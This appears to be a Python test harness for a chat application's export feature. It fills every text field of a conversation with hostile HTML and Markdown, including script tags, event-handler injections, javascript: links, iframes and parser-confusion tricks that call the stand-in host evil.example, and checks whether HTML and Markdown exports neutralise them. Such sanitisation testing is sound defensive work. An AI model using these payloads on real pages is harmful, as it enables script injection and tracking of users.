"""Hostile conversations as the exporters write them, and as a browser would get them.

Run as a program by tests/attacks/exports.py with an empty folder.
"""

import sys
from pathlib import Path

from markdown_it import MarkdownIt
from PySide6.QtWidgets import QApplication

from app.attachments.kept_files import Files
from app.database.rows import ConversationRecord
from app.records.turns import turn_record
from app.transfer.bundle import Bundle
from app.transfer.exporting import pdf_writer
from app.transfer.exporting.conversation_writer import write_conversation
from engine.messages import ToolInvocation
from ui.state.called_tool import CalledTool, CallState
from ui.state.export_choice import ExportChoice, ExportFormat, ExportImages
from ui.state.turn import Turn

# Every request goes to a host of this name, and every script leaves this mark: in the document,
# and among the requests in case that the document is left for another.
HOST, MARK = "evil.example", "SCRIPTRAN"
RUN = (
    f"document.documentElement.setAttribute('data-mark','{MARK}');"
    f"new Image().src='http://{HOST}/{MARK}'"
)
_TAGS = f"""
<script>{RUN}</script><img src=x onerror="{RUN}"><img src="http://{HOST}/i.png">
<svg onload="{RUN}"><use href="http://{HOST}/u.svg#a"/></svg><body onload="{RUN}">
<iframe src="http://{HOST}/f"></iframe><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>
<iframe src="javascript:parent.{RUN}"></iframe><object data="http://{HOST}/o"></object>
<embed src="http://{HOST}/e"><link rel=stylesheet href="http://{HOST}/c.css">
<link rel=prefetch href="http://{HOST}/p"><link rel=preconnect href="http://{HOST}/">
<style>@import url(http://{HOST}/s.css); body {{ background: url(http://{HOST}/b.png) }}</style>
<meta http-equiv=refresh content="0;url=http://{HOST}/m"><base href="http://{HOST}/">
<video src="http://{HOST}/v" autoplay></video><audio src="http://{HOST}/a" autoplay></audio>
<input autofocus onfocus="{RUN}"><details open ontoggle="{RUN}"><summary>a</summary></details>
<form action="http://{HOST}/"><input type=image src="http://{HOST}/t.png"></form>
<math><mtext><table><mglyph><style><img src onerror="{RUN}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src onerror={RUN}>"></noscript>
"""
_MARKDOWN = f"""
![a](http://{HOST}/m.png) [![b](http://{HOST}/n.png)](http://{HOST}/) ![c][r] [c](javascript:{RUN})
<http://{HOST}/x> [d](<javascript:{RUN}>) [e](data:text/html,<script>{RUN}</script>)

[r]: http://{HOST}/r.png "'><img src=x onerror={RUN}>"

![f](http://{HOST}/g.png "\\"onerror=\\"{RUN}") ![g](x"onerror="{RUN})
<img
src="http://{HOST}/h.png"
onerror="{RUN}">

\\![h](http://{HOST}/i.png) !\\[i](http://{HOST}/j.png)
![ j
k ](http://{HOST}/k.png) ![l](  http://{HOST}/l.png  ) ![m]( <http://{HOST}/m.png>)

> ![q](http://{HOST}/q.png)
> <img src="http://{HOST}/q2.png">

- ![li](http://{HOST}/li.png)
    <img src="http://{HOST}/li2.png">

`` ` `` <img src="http://{HOST}/tick.png"> `
`a` ` <img src="http://{HOST}/tick2.png"> ``

    ![code](http://{HOST}/code.png)

| ![t](http://{HOST}/t.png) |
|---|
| <img src="http://{HOST}/t2.png"> |

$\\href{{javascript:{RUN}}}{{x}}$ $$\\includegraphics{{http://{HOST}/tex.png}}$$
$\\text{{<img src=x onerror={RUN}>}}$ $<svg onload={RUN}>$
"""
_LONG = (
    f'<img alt="{"a" * 6000}" src="http://{HOST}/long.png"> <b a="{"x" * 6000}" onclick="{RUN}">'
)
_LINKED = (
    f"![{'a' * 1200}](http://{HOST}/longtext.png)\n\n![{'[' * 40}{']' * 40}](http://{HOST}/n.png)"
)
_FENCES = f"""~~~
```
~~~
<img src="http://{HOST}/fence.png">

> ```
<img src="http://{HOST}/quote-fence.png">

- ```
  x
<img src="http://{HOST}/list-fence.png">

<!-- --> <img src="http://{HOST}/comment.png"> <![CDATA[ x ]]> <?php x ?>

<div>

```
<img src="http://{HOST}/div.png">
```

</div>
"""
_BREAKS = f'</pre></code></article></details></p><script>{RUN}</script>"><script>{RUN}</script>'
TEXTS = (_TAGS, _MARKDOWN, _LONG, _LINKED, _FENCES, _BREAKS)

_PAGE = "<!DOCTYPE html><html><head><title>a</title></head><body>{}</body></html>"


def hostile_conversation(files: Files) -> Bundle:
    """Return a conversation with hostile text wherever text is possible."""
    turns: list[Turn] = []
    for text in TEXTS:
        turns.append(Turn("user", text))
        answer = Turn("assistant", text, text, model_id=f"/m/{text[:80]}", error=text)
        call = ToolInvocation(text[:200], text, f"c{len(turns)}")
        answer.tool_calls = [CalledTool(call, state=CallState.DONE, result=text, title=text)]
        turns.append(answer)
    for number, turn in enumerate(turns, 1):
        turn.message_id = number
        turn.parent = turns[number - 2] if number > 1 else None
    records = tuple(turn_record(turn, 1, 0, files) for turn in turns)
    record = ConversationRecord(1, title=_BREAKS, created=1.7e9, model=_BREAKS)
    return Bundle(record, records, {0: (len(turns), 0)})


def write_pages(folder: Path) -> None:
    """Exports, and Markdown as a viewer that takes HTML shows it. Needs a QApplication."""
    files = Files(folder / "attachments")
    fonts = pdf_writer.Fonts("Inter", "JetBrains Mono")
    for form in (ExportFormat.HTML, ExportFormat.MARKDOWN):
        choice = ExportChoice(form, ExportImages.SMALL)
        path = folder / f"out{form.value}"
        write_conversation(path, hostile_conversation(files), choice, files, fonts, lambda: None)
    files.close()
    text = (folder / "out.md").read_text(encoding="utf-8")
    for name in ("commonmark", "gfm-like"):
        made = MarkdownIt(name, {"html": True, "linkify": False}).render(text)
        (folder / f"{name}.html").write_text(_PAGE.format(made), encoding="utf-8")
    # The control: the same texts, not made harmless.
    (folder / "control.html").write_text(_PAGE.format("".join(TEXTS)), encoding="utf-8")


def main() -> None:
    _application = QApplication(sys.argv[:1])
    write_pages(Path(sys.argv[1]))


if __name__ == "__main__":
    main()
